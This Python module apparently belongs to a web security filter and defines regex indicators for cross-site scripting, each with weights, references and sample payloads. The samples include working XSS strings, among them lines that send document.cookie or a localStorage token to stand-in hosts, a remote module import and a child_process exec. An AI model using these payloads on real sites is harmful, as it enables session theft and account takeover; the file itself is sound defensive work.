"""Cross-site scripting: programs that a browser runs, in tags, attributes, URLs and bare script."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

import re
from functools import partial

from guard_wsgi.detection.indicators.indicator import (
    CERTAIN,
    DECISIVE,
    MEDIUM,
    STRONG,
    WEAK,
    Family,
)

_CWE = "CWE-79"
_EVASION = "OWASP: XSS Filter Evasion Cheat Sheet"
_PATT = "PayloadsAllTheThings, XSS Injection"
_HTML = "WHATWG HTML: event handlers, the tokenizer"
_CRS = "idea of the CRS 941 family"


_xss = partial(Family("xss"), "xss")

_SINK = (
    r"(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|btoa|expression|execscript"
    r"|importscripts|msgbox|print|navigate|createelement|getelementbyid|queryselector)"
)

_OPERATORS = r"[-+*/^|&%,;?:=.<>)\]}]"
# An expression that does something: a call, an object or a list of calls, an assignment.
_EXPRESSION = (
    r"(?:new\s+|void\s+|typeof\s+|await\s+|[!~(]\s*)*"
    r"(?:[a-z_$][\w$.?]*(?:\[[^QUOTE\]]*\])?(?:\?\.)?[(`]|\{\s*(?:[\w$]+\s*:|\[)|\[[^QUOTE\]]*\]\s*[.(\[]|[a-z_$][\w$.\[\]]*\s*=[^=QUOTE])"
)


def _string_breakout(quote: str) -> str:
    """A text that leaves the string of a script with an operator, and enters it again or comments
    the rest out."""
    inside = f"[^{quote}]"
    return (
        rf"^{inside}*{quote}\s*{_OPERATORS}{{1,4}}\s*{_EXPRESSION.replace('QUOTE', quote)}{inside}*"
        rf"(?:[-+*/^|&%,;?:=<>(\[{{]\s*{quote}\s*$|\?\s*{quote}{quote}\s*:\s*{quote}\s*$|\)\s*;?\s*(?://|<!--){inside}*$)"
    )


def _attribute_breakout(quote: str) -> str:
    """A text that leaves an attribute's value and adds attributes: a handler, or another target.

    An attribute before the quote is markup of one's own, pasted from its middle.
    """
    return (
        rf"^[^<>=\"']*{quote}[\s/]+(?:[a-z-]+(?:=[^\s\"'<>]*\s[\s/]*|[\s/]+))*(?:formaction\s*=|on[a-z]{{4,}}\s*="
        rf"|(?:href|src|action|data|ping|poster|background|xlink:href|srcset)\s*=\s*[\"']?(?:[a-z]+:)?[/\\]{{2}})"
    )


_CALLABLES = (
    "alert",
    "eval",
    "prompt",
    "confirm",
    "print",
    "function",
    "settimeout",
    "setinterval",
    "fetch",
    "import",
)
_CALLED_BACK = rf"(?:{'|'.join(_CALLABLES)})"
# A call or an object, an operator and a quote; in JSON the quote is escaped. The first pass reads a
# plus as a blank, which prose has there as well, unless the value ends.
_OPERATED = tuple(
    f"{end}{operator}"
    for end in (r"\)", r"\}", r"\]")
    for quote in ('"', r'\\"', "'", "`")
    for operator in (
        *(re.escape(sign) + quote for sign in "-+*/|&%^:?=,"),
        *(f"-{re.escape(opening)}{quote}" for opening in "([{"),
        f' {quote}(?:$|[\\x0b&;"\\]}},])',
    )
)
_PASSED = tuple(
    f"{re.escape(mark)}{name}{re.escape(end)}"
    for mark in "(,="
    for name in _CALLABLES
    for end in "),"
)

# fmt: off
MARKUP = (
    _xss("script_tag", r"<[\s/\x00]*script\b", _CWE, STRONG, examples=('</script>',)),
    _xss("script_close", r"</\s*script\b", _CWE, examples=('</script>',)),
    _xss("script_tag_odd", r"<[^\s>a-z]{0,3}(?:s[\s\x00/]*c[\s\x00/]*r[\s\x00/]*i[\s\x00/]*p[\s\x00/]*t)", _EVASION, examples=('</script>',)),
    _xss(
        "event_attribute",
        r"<[a-z!?/][^>]*[\s/\"'`\x00-\x20]on[a-z]{3}[a-z]*[\s\x00-\x20/]*=",
        _HTML,
        STRONG, examples=('<x onend=',)),
    _xss("event_bare", r"(?:^|[\s\"'`/;>\x00-\x20&])on(?:abort|activate|afterprint|animation\w+|auxclick"
         r"|before\w+|begin|blur|bounce|canplay\w*|change|click|close|contextmenu|copy|cut|dblclick"
         r"|drag\w*|drop|end|ended|error|finish|focus\w*|formdata|fullscreenchange|hashchange|input"
         r"|invalid|key(?:down|press|up)|load\w*|message|mouse\w+|offline|online|page\w+|paste"
         r"|play\w*|pointer\w+|popstate|progress|propertychange|readystatechange|repeat|reset"
         r"|resize|scroll\w*|search|seek\w+|select\w*|show|start|submit|suspend|toggle|touch\w+"
         r"|transition\w+|unhandledrejection|unload|volumechange|waiting|webkit\w+|wheel)"
         r"[\s\x00-\x20/]*=", _HTML, 0.9, examples=('<x onend=',)),
    _xss("event_quoted_break", r"[\"'`][\s/>]*on[a-z]{4,44}\s*=", _EVASION, STRONG, prefilter=("oncontentvis",), examples=('"onzoom=',)),
    _xss("javascript_url", r"j[\s\x00-\x20]*a[\s\x00-\x20]*v[\s\x00-\x20]*a[\s\x00-\x20]*s[\s\x00-\x20]*c"
         r"[\s\x00-\x20]*r[\s\x00-\x20]*i[\s\x00-\x20]*p[\s\x00-\x20]*t[\s\x00-\x20]*"
         # Code follows, or the value is an address: "JavaScript: The Good Parts" is a book.
         r":(?:\s{0,3}(?:[^\s\w]|\w[\w.$]{0,40}\s?[(`=\[.;%/+,&|])|[\t\r\n])"
         r"|(?:^[\s\"'(]{0,4}|=\s{0,3}[\"'`]?|url\(\s{0,3}[\"']?)j[\s\x00-\x20]*a[\s\x00-\x20]*v[\s\x00-\x20]*a[\s\x00-\x20]*s[\s\x00-\x20]*c"
         r"[\s\x00-\x20]*r[\s\x00-\x20]*i[\s\x00-\x20]*p[\s\x00-\x20]*t[\s\x00-\x20]*:(?:\S|$)", _EVASION, STRONG, examples=('javascript:a=:,',)),
    _xss("vbscript_url", r"(?:vbscript|livescript|mocha|jscript)[\s\x00-\x20]*:", _EVASION, STRONG, examples=('vbscript:msgbox("x")',)),
    _xss("data_url_active", r"data\s*:\s*(?:text/(?:html|xml|javascript)|image/svg\+xml|application/"
         r"(?:x-)?(?:javascript|xhtml\+xml|xml))?\s*[;,]", _EVASION, examples=(' data: , <x>',)),
    _xss("data_url_html", r"data\s*:\s*(?:text/(?:html|javascript|xml)|application/(?:x-javascript|xhtml\+xml))", _EVASION, STRONG, examples=('[a](data:text/html;base64,PHNjcmlwdD4=)',)),
    _xss("active_tag", r"<[\s/\x00]*(?:i?frame|frameset|object|embed|applet|svg|math|meta|link|base|isindex"
         r"|xml|xss|bgsound|layer|ilayer|marquee|keygen|portal|animate|set|foreignobject|noscript"
         r"|template|handler|listener|import|htmlfile)[\s/>\x00-\x20]", _EVASION, examples=('/"></svg>',)),
    _xss("document_tag", r"<[\s/\x00]*(?:html|head|body|style|title)[\s/>\x00-\x20]", _HTML, 0.4, examples=('<style>',)),
    _xss("media_tag", r"<[\s/\x00]*(?:img|image|video|audio|source|input|button|form|textarea|select|details"
         r"|isindex|track|picture|canvas|object|map|area)[\s/\x00-\x20]", _EVASION, WEAK, examples=('<OBJECT data =',)),
    _xss("tag_slash", r"<[a-z]+/+[a-z]+\s*=", _EVASION, 0.9, examples=('<x/onxxx=1',)),
    _xss("tag_any", r"<[a-z!?/][a-z0-9:_-]*(?:[\s/>]|$)", _HTML, 0.1, examples=('<svg',)),
    _xss("tag_custom_event", r"<\w+[^>]*\s(?:style|tabindex|autofocus|contenteditable|id)\b[^>]*on\w+\s*=", _PATT, examples=('<input autofocus onfocus=alert(1)>',)),
    _xss("quote_then_tag", r"^[^<>]*[\"'`]\s*/?>\s*<", _EVASION, examples=('/"></svg>',)),
    _xss("close_then_tag", r"</(?:title|textarea|style|noscript|script|iframe|xmp|noembed|template|select|option|a|div|p|svg|math)\s*>\s*<", _PATT, WEAK, examples=('alert(1)</script><script>/*',)),
    _xss("cdata", r"<!\[cdata\[", _PATT, WEAK, examples=('<![CDATA[<test></test>]]>',)),
    _xss("comment_tag", r"<!--", _EVASION, WEAK, examples=('<!--#printenv -->',)),
    _xss("active_attribute", r"<[a-z][^>]*[\s/\"'](?:srcdoc|formaction|xlink:href|data|action|background|dynsrc"
         r"|lowsrc|poster|code|codebase|manifest|allowscriptaccess|http-equiv|attributename|folder)\s*=", _EVASION, examples=('<OBJECT data =',)),
    _xss("moz_binding", r"-moz-binding\s*:\s*url\s*\(", _EVASION, STRONG, examples=("-moz-binding:url(http://e.vil/x.xml#x)",)),
    _xss("style_expression", r"expression\s*\(|-moz-binding|behaviou?r\s*:\s*url|@import\b|url\s*\(\s*['\"]?\s*javascript", _EVASION, 0.9, examples=('x=x:url(javascript',)),
    _xss("style_attribute", r"<[a-z][^>]*[\s/\"']style\s*=", _EVASION, WEAK, examples=('*<A STYLE=\'no\\KCF:noKCF("*//*");',)),
    _xss("sink_call", r"(?:^|[^\w.])" + _SINK + r"\s*(?:\(|`|\.(?:call|apply|bind)\b)", _PATT, examples=('atob()',)),
    _xss("sink_argument", r"\b(?:alert|prompt|confirm)\s*[(`]\s*(?:[\d'\"/`)]|(?:document|location|window|this)\s*[.\[])|\b(?:alert|prompt|confirm)[(`](?:document|location|window|origin|string|this|xss|name|cookie)\b", _PATT, STRONG, examples=('alert()',)),
    _xss("timer_string", r"\bset(?:timeout|interval)\s*\(\s*['\"`]", _PATT, STRONG, examples=("setTimeout('alert(1)',0)",)),
    _xss("probe_exact", r"<'\">|<\"'>|['\"]{1,2}<'\">", "sqlmap: characters that show whether output is encoded", STRONG, examples=('<\'">',)),
    _xss("probe", r"<['\"]{1,2}>|['\"]{1,2}<['\"]{1,2}|<[\"'][>)(]|[\"']>[\"'(]", "sqlmap and ZAP: characters that show whether output is encoded", 0.8, examples=('script>\'>">',)),
    _xss("sink_indirect", r"\b(?:alert|prompt|confirm|eval|fetch|print)\b(?:\s*\)\s*[(`]|\s*\?\.\s*[(`])|\.(?:find|map|foreach|filter|some|every|reduce|sort|then|replace)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|[\[(]\s*['\"`](?:alert|prompt|confirm|eval|constructor)"
         r"['\"`]\s*[\])]|['\"]al['\"]\s*\+|\bal['\"]\s*\+\s*['\"]ert", _PATT, STRONG, examples=('(alert)(1)',)),
    _xss("sink_as_value", r"(?:=|\bthrow\b|,|\|\||&&|;)\s*(?:alert|prompt|confirm|eval)\s*(?:[,;)}]|$)", _PATT, 0.9, examples=('a=alert,a(1)',)),
    _xss("sink_unicode", r"\\u00(?:61|41)lert|\\u0061|\\x61lert|al\\u0065rt|\\141lert", _EVASION, STRONG, examples=('<script>\\u0061lert(1)</script>',)),
    _xss("document_property", r"\bdocument\s*\.\s*(?:cookie|write(?:ln)?|domain|location|body|url|referrer|forms|scripts|documentelement"
         r"|implementation|all|head|execcommand|defaultview|createelement|getelement\w+|queryselector\w*|title)\b", _PATT, examples=('document.cookie',)),
    _xss("cookie_theft", r"(?:[=(+,;{:!&|?\[]|^|\breturn|\$)\s*[\"'`]?(?:\w+\.)?document\s*\.\s*cookie|document\s*\.\s*cookie\s*(?:[=(+;,)\].}'\"`<|&]|$)|document\s*\[\s*['\"]cookie", _PATT, STRONG, examples=('document.cookie',)),
    _xss("window_property", r"\b(?:window|self|top|parent|frames|globalthis|this)\s*(?:\.\s*(?:location|name|open|onerror|onload|eval|alert|document"
         r"|atob|opener|parent|constructor)\b|\[\s*['\"`/(+\d])", _PATT, examples=('self["\\x24"]',)),
    _xss("location_assign", r"\b(?:location|location\.(?:href|hash|search|pathname))\s*=|\blocation\s*\.\s*(?:replace|assign)\s*\(", _PATT, MEDIUM, examples=("<script>location='javascript:alert(1)'</script>",)),
    _xss("storage", r"\b(?:local|session)storage\s*(?:\.|\[)", _PATT, WEAK, examples=("fetch('https://c4f1x9.oast.example',{method:'POST',body:localStorage.token})",)),
    _xss("dom_write", r"\b(?:inner|outer)html\s*\+?=|insertadjacenthtml|\.srcdoc\s*=|\.write\s*\(", _PATT, examples=("div> <script>d.innerHTML+='';</script>",)),
    _xss("from_char_code", r"fromcharcode|fromcodepoint|\bunescape\s*\(|\bdecodeuri(?:component)?\s*\(", _EVASION, 0.9, examples=('eval(String.fromCharCode',)),
    _xss("function_constructor", r"\bnew\s+function[(`]|\bfunction\s*\(\s*['\"`]|\[\s*['\"`]?constructor['\"`]?\s*\]|"
         r"\.constructor\s*(?:\(|\.\s*constructor|\[)|\bconstructor\.constructor\b|\bfunction`|\breflect\.(?:construct|apply|get)", _PATT, MEDIUM, examples=('new Function()',)),
    _xss("constructor_call", r"\bconstructor\.constructor\b|\.constructor\s*\(\s*\\?['\"`]", _PATT, STRONG, examples=('this.constructor.constructor',)),
    _xss("immediate_function", r"\(\s*function\s*\(\s*\)\s*\{|\(\s*\(\s*\)\s*=>|=>\s*(?:alert|eval|fetch|\{)|\bfunction\s*\(\s*\w?\s*\)\s*\{", _PATT, examples=('function() {',)),
    _xss("jsfuck", r"(?:\[\]|!\[\]|\+\[\]|!!\[\]|\(!\+|\{\}\+){3,}|\[[\[\]()!+]{11,}", "jsfuck.com", STRONG, examples=('[][(![]+[])[+[]]+([![]]+[][[]])',)),
    _xss("js_break", r"[\"'`]\s*[;)}\]]+\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch\s*\(|var\s|document|window|location|function|//|throw)", _EVASION, STRONG, examples=("';alert(1)//",)),
    _xss("js_operator_sink", r"[\"'`]\s*(?:[-+*/^|&%,?:]+\s*(?:alert|prompt|confirm|eval|fetch)\b|[-+*/^|&%,?]+[ \t]*print[(`])", _PATT, STRONG, examples=("'-alert(1)-'",)),
    _xss("js_close_script", r"</script|<\\/script|\*/\s*<|//\s*--\s*>", _PATT, WEAK, examples=('</script>',)),
    _xss("iife_import", r"\bimport\s*\(\s*['\"`]|\brequire\s*\(\s*['\"`](?:child_process|fs|net|http|os|vm)", _PATT, examples=("require('child_process').exec('id')",)),
    _xss("xhr", r"\bnew\s+(?:xmlhttprequest|activexobject)\b|\bnew\s+(?:image|websocket|worker)\s*(?:\(|\)\s*\.)|\bnavigator\s*\.\s*(?:sendbeacon|serviceworker)|\$\.(?:get|post|getscript|ajax)\s*\(", _PATT, 0.9, examples=("' onselect=$.getScript('//test.com') '",)),
    _xss("fetch_url", r"\bfetch\s*\(\s*['\"`](?:https?:)?//", _PATT, STRONG, examples=("<script>fetch('//c4f1x9.oast.example/?c='+document.cookie)</script>",)),
    _xss("angular", r"\bng-(?:app|init|csp|click|mouse\w+|focus|include|bind-html|on-\w+)\b|\bv-(?:html|on:|bind:)|\bx-(?:data|init|html|on:)\S*\s*=|"
         r"\{\{\s*(?:constructor|\$on|\$eval|toString|'a'\.constructor|\w+\s*=)", _PATT, examples=('<div x-data x-init=alert(1)>',)),
    _xss("meta_refresh", r"<meta[^>]+(?:http-equiv\s*=?\s*['\"]?\s*(?:refresh|set-cookie|link\b)|content\s*=\s*['\"]?\s*\d+\s*;\s*url|charset\s*=\s*['\"]?\s*(?:utf-7|mac-farsi|x-mac))", _EVASION, STRONG, examples=('<meta http-equiv="refresh"',)),
    _xss("utf7", r"\+ad[w4][-a-z]|\+/v[89+/]|¼script", _EVASION, STRONG, examples=('+ADw-script+AD4-alert(1)+ADw-/script+AD4-',)),
    _xss("entity_hidden", r"&(?:tab|newline|colon|lpar|rpar|comma|period|excl|quest|lbrace|grave|bsol|sol);|&#x?0{0,8}(?:6a|4a|3c|3e|28|29|60|62|106|74|40|58|3a)\b;?", _EVASION, 0.9, examples=('&#x3E;">',)),
    _xss("iso_start", r"^\s*[\"'`]?\s*/?>\s*<\s*\w", _EVASION, examples=('"><body onload="KCF">',)),
    _xss("polyglot", r"-->\s*<|\*/\s*-->|</(?:title|style|textarea|script)/*[^>]*>\s*/?-*!?>?", _PATT, WEAK, examples=('</script>',)),
    _xss("external_script", r"<[^>]+\bsrc\s*=\s*['\"`]?\s*(?:https?:)?(?://|\\\\)[^>]+\.js\b", _PATT, examples=('<script src=//brutelogic.com.br/1.js>',)),
    _xss("template_literal_call", r"\b(?:alert|prompt|confirm|eval|settimeout|setinterval)`", _PATT, STRONG, examples=('ontoggle="alert`1`">',)),
    _xss("sink_only", r"^[\s'\"(=;]*(?:(?:window|self|top|parent|frames)\s*\.\s*)?(?:alert|prompt|confirm|eval|set(?:timeout|interval|immediate)|atob|btoa|fetch|execscript|importscripts|unescape|document\.write(?:ln)?)\([^)]*\)[\s;'\")]*$", _PATT, STRONG, examples=('atob()',)),
    _xss("property_only", r"^[\s'\"=(.]*(?:(?:window|self|top|parent)\s*\.\s*(?:location|name|document|opener|onerror)|document\s*\.\s*(?:cookie|domain|location|body|referrer|write(?:ln)?))(?:\s*\.\s*\w+)*[\s'\"=);.]*$", _PATT, STRONG, examples=('window.location',)),
    _xss("function_only", r"^\s*new\s+function(?:\((?:[^<]|$)|\s+\(\s*(?:$|['\"`)]))", _PATT, STRONG, examples=('new Function()',)),
    _xss("event_only", r"^[\s'\"`<>/]*on[a-z]{4,44}\s*=\s*\S{0,1}\s*$", _HTML, STRONG, examples=('"onzoom=',)),
    _xss("attribute_break", r"^\s*['\"`][\s/>]*(?:formaction|srcdoc|xlink:href|autofocus|style|href|src|background|action)\s*=", _EVASION, 0.9, examples=("'formaction=",)),
    _xss("spaced_tag", r"</?\s?[a-z](?:[\s/\x00]+[a-z]\b){3,}", _EVASION, STRONG, examples=('$<f o r m',)),
    _xss("us_ascii", r"\xc2\xbc\s*/?[a-z]{2,}.{0,80}\xc2\xbe|\\xbc\s*/?[a-z]{2,}.{0,80}\\xbe", "OWASP: XSS Filter Evasion Cheat Sheet, US-ASCII encoding", STRONG, examples=('\\xbctest\\xbetest(\\xa2XSS\\xa2)\\xbc/test\\xbe',)),
    _xss("array_call", r"\]\s*\.\s*\w+\s*\.\s*(?:call|apply|bind)\s*[`(]", _PATT, STRONG, examples=('[].sort.call`${alert}1337`',)),
    _xss("entity_in_word", r"[a-z]&(?:tab|newline|nbsp|shy|zwj|zwnj);[a-z]{2,}", _EVASION, STRONG, examples=('ja&tab;vascript: ',)),
    _xss("link_script", r"<link\b[^>]*(?:\.js\b|javascript)", _EVASION, STRONG, examples=('<LINK REL="stylesheet" HREF="javascript:alert(8461);">',)),
    _xss("not_array", r"!\s*\[\s*\]\s*(?:$|[\])+,])", "jsfuck.com", 0.8, examples=(' !![]',)),
    _xss("import_url", r"\bimport\s*\(\s*['\"`](?:https?:)?//", _PATT, STRONG, examples=("import('//c4f1x9.oast.example/m.js')",)),
    _xss("namespace_tag", r"<(?:svg|html|xhtml|math):[a-z]", _EVASION, MEDIUM, examples=('test 121_1 <svg:svg>',)),
    _xss("css_escapes", r"(?:\\00[2-7][0-9a-f]\s?){3,}", _EVASION, STRONG, examples=('<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.',)),
    _xss("mhtml_url", r"=\s*['\"]?mhtml:|classid\s*=\s*['\"]?clsid:", _EVASION, STRONG, examples=('test 96_2 <iframe src=mhtml:http://html5sec.org/test.gif!xss.html></iframe>',)),
    _xss("dom_assign", r"\bdocument\s*\.\s*(?:query\w+|getelement\w+|createelement|body|forms|images|links)\b.{0,80}?\.\s*(?:textcontent|innertext|innerhtml|outerhtml|src|href|value|action|style)\s*=", _PATT, STRONG, examples=('document.querySelector("p").textContent="XSS"',)),
    _xss("tagged_call", r"\.\s*(?:call|apply)\s*`", _PATT, STRONG, examples=('Reflect.sort.call``',)),
    _xss("vml_frame", r"<\w*:vmlframe\b", _EVASION, CERTAIN, prefilter=(r"<:vmlframe",), examples=("<:vmlframe src=", '<v:vmlframe src="foo.com/sup.fml"/>',)),
    _xss("script_loop", r"\bwhile\s*\(+\s*(?:!|-|\+|true|1\b|this|infinity|new\s|\[|\{|'|\"|`|string)", "CRS rule family 934: denial of service by script", STRONG, examples=('while(!0);',)),
    _xss("import_tag", r"<\?import\b|<\??import[^<>=]{0,32}implementation\s*=|<!attlist|\bdatasrc\s*=|\bdataformatas|xmlns:xss|<v:\w+|<\w+:vmlframe", _EVASION, 0.9, examples=('<HTML xmlns:xss>',)),
    _xss("bracket_access", r"\)\s*\[\s*['\"]\w+['\"]|\b(?:document|window|self|this|top|console|process)\s*(?:/\*[^*]*\*/)?\)?\s*\[\s*['\"\\]", _PATT, 0.9, examples=('self["\\x24"]',)),
    _xss("cookie_set", r"\.cookie\s*=|\.cookie\s*;\W{0,3}(?:expires|domain|path)\s*=|set-cookie\s*[:=]|http-equiv\W+set-cookie", "CWE-384", 0.8, examples=('a\rSet-Cookie:b=c',)),
    _xss("svg_animate", r"<(?:animate\w*|set)\b[^>]*(?:attributename|onbegin|values|to)\s*=", _PATT, 0.9, examples=('<svg><set attributeName=onmouseover to=alert(1)>',)),
    _xss("dangling", r"<(?:img|iframe|link|a|area|form|base|object|embed|video|audio|source|track|input|body|table|meta|button|image)\b[^>]{0,200}\b(?:src|href|action|formaction|data|target|background|poster|content|ping)\s*=\s*(?:'[^'>]{0,200}|\"[^\">]{0,200})$|^[^<]{0,20}<(?:textarea|xmp|plaintext|select|option|style)\b[^>]{0,100}>[^<]{0,20}$|<input\b[^>]{0,100}\bvalue\s*=\s*(?:'[^'>]{0,40}|\"[^\">]{0,40})$", "PortSwigger, Dangling markup injection; CWE-79", STRONG,
          prefilter=(r"<(?:textarea|xmp|plaintext|select|option|style)[ >]",),
          examples=("<img src='http://evil.example/?", "<a href=\"//evil.example/?x=", "<textarea name=x>", "<input type=hidden name=x value='")),
    _xss("clobbering", r"<(?:a|img|form|iframe|embed|object|input|output|button|image)\b[^>]{0,100}\b(?:id|name)\s*=\s*['\"]?(?:getelementbyid|getelementsby\w+|queryselector\w*|createelement\w*|currentscript|defaultview|documentelement|parentnode|childnodes|attributes|nodename|innerhtml|firstchild|ownerdocument|setattribute|removechild|appendchild|cookie|document|window|__proto__)\b|<a\s[^>]{0,60}\bid\s*=[^>]{1,60}>\s*(?:</a>\s*)?<a\s[^>]{0,60}\bid\s*=[^>]{1,60}\bname\s*=|<form\s[^>]{0,60}\bid\s*=[^>]{1,60}>\s*(?:</form>\s*<form\s[^>]{0,60}\bid\s*=|<output\s[^>]{0,60}\b(?:id|name)\s*=)", "OWASP: DOM Clobbering Prevention Cheat Sheet", CERTAIN,
          examples=("<img name=getElementById>", "<a id=config><a id=config name=url href=//evil.example>", "<form id=test1></form><form id=test1><input name=x>")),
    _xss("htmx", r"<[a-z][^<>]*\s(?:data-)?hx-(?:on|get|post|put|delete|patch|vals|vars|headers|ext|boost|trigger|include)[\w:-]{0,30}\s*=", "htmx documentation: attributes that send requests and run scripts", STRONG, prefilter=(r"[\s\"']hx-(?:on|get|post|put|del|pat|val|var|hea|ext|boo|tri|inc)",), examples=("<div hx-get=//x.example hx-trigger=load>", "<div hx-on:click=alert(1)>")),
    _xss("string_left", "|".join(map(_string_breakout, "\"'`")), _PATT, CERTAIN,
         prefilter=(*_OPERATED, r"\)//", r"\);//", "[=\x0b]['\"`];[a-z]"),
         examples=('"-admin.grant(7)-"', "'+{toString:alert}+'", "`;x=name;`", '".replace(/.*/,eval)+"', '";logout()//')),
    _xss("attribute_left", "|".join(map(_attribute_breakout, "\"'")), _HTML, DECISIVE,
         examples=('" autofocus/onfocus=f() x="', "' type=submit formaction=/x y='", '" type=image src=//e.vil/x x="')),
    _xss("attributes_only", r"^[\w-]*(?:\s+[a-z-]+=[^\s\"'<>]*)*\s+on[a-z]{4,}=[\w$.]+[(=`][^\s\"'<>]*(?:\s+[\w=-]+)*\s*$", _HTML, STRONG,
         examples=("x onclick=f() y", "a tabindex=1 onfocus=x=name")),
    _xss("called_back", rf"\.\s*(?:map|foreach|find\w*|filter|some|every|reduce\w*|sort|replace\w*|then|from|flatmap)\s*\((?:[^)]*,)?\s*{_CALLED_BACK}\s*[,)]"
         rf"|\bnew\s+promise\s*\(\s*{_CALLED_BACK}\s*\)|\b(?:eval|alert|prompt|confirm)\s*\?\.|\b(?:eval|alert|prompt|confirm|function)\s*\.\s*(?:call|apply|bind)\s*\("
         r"|\breflect\s*\.\s*(?:apply|construct)\s*\(\s*(?:eval|alert|prompt|confirm|function)\b|\bonerror\s*=\s*(?:eval|alert|print)\b|=\s*(?:eval|alert)\s*,"
         r"|(?:^|[;,=(])\s*location\s*=\s*(?:location|name|window|document|self|top)\b|(?:^|[;,=(:?&|+-])\s*import\s*\(\s*[a-z_$][\w$.]*\s*\)|(?:\$|\bjquery)\s*\.\s*(?:getscript|globaleval)\s*\(", _PATT, STRONG,
         prefilter=(*_PASSED, r"promise\((?:alert|eval|print|confirm|prompt)", r"(?:eval|alert)\?\.", r"\.(?:getscript|globaleval)\("),
         examples=("[name].map(eval)", "new Promise(alert)", "eval?.(name)", "Reflect.apply(eval,1,[name])", "location=location.hash", "import(name)", "$.getScript(name)")),
    _xss("foreign_login", r"<form\b[^>]*\baction\s*=\s*[\"']?(?:https?:)?//.*<input\b[^>]*type\s*=\s*[\"']?password", "CWE-1021; PortSwigger, Dangling markup injection", CERTAIN,
         examples=('<form action="https://e.vil"><input type=password>',)),
    # A name alone may be a program: the opener of a window gives it its name.
    _xss("script_address", r"(?:\]\(|\]:|href\s*=\s*['\"]?)\s*javascript:\s*[a-z_$][\w.$]*\s*(?:[)\"'\s>]|$)", _HTML, CERTAIN, prefilter=(r"\]\( ?javascript:", r"\]: ?javascript:", "javascript:name"), examples=("[x](javascript:name)", "<a href=' javascript:name'>x</a>", "[1]: javascript:name \"t\"")),
)
